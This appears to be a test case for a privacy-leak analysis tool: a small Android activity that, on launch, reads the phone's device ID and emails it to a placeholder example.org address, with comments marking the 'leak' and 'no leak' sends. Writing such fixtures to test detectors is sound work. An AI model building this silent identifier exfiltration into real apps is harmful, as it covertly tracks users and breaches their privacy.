package ways;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.TelephonyManager;
import java.util.Properties;
import javax.mail.Message;
import javax.mail.Session;
import javax.mail.Transport;
import javax.mail.internet.InternetAddress;
import javax.mail.internet.MimeMessage;

/** By a library for mail. */
public class MailOut extends Activity {
    private final Session session = Session.getInstance(new Properties());

    private MimeMessage mail(String text) throws Exception {
        MimeMessage mail = new MimeMessage(session);
        mail.setFrom(new InternetAddress("a@example.org"));
        mail.addRecipient(Message.RecipientType.TO, new InternetAddress("b@example.org"));
        mail.setSubject("report");
        mail.setText(text);
        return mail;
    }

    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
        new Thread(() -> {
            try {
                Transport.send(mail("id " + phone.getDeviceId())); // leak
                Transport.send(mail("nothing")); // no leak
            } catch (Exception e) {
                finish();
            }
        }).start();
    }
}
